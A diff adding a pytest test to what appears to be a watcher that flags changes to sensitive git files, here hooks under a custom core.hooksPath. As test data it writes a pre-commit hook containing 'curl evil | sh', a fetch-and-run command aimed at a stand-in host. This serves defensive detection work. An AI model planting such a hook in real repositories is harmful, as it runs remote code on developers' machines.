@@ -99,6 +99,18 @@ def test_a_new_repository_is_seen_by_its_config(tmp_path: Path) -> None:
     assert [(c.path, c.change) for c in got] == [(".git/config", "added")]
 
 
+def test_the_hooks_directory_core_hooks_path_names_is_watched(tmp_path: Path) -> None:
+    git_repo(tmp_path)
+    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", ".githooks"])
+    write(tmp_path, ".githooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
+    before = take(tmp_path)
+    write(tmp_path, ".githooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
+    write(tmp_path, ".githooks/post-checkout", "#!/bin/sh\n", 0o755)
+    got = {c.path: c for c in changes(before, take(tmp_path), tmp_path)}
+    assert sorted(got) == [".githooks/post-checkout", ".githooks/pre-commit"]
+    assert got[".githooks/pre-commit"].runs == sensitive.HOOKS_PATH
+
+
 def test_a_submodules_git_directory_is_watched_as_the_repositorys(tmp_path: Path) -> None:
     git_repo(tmp_path)
     sub = tmp_path / ".git" / "modules" / "libs" / "a"
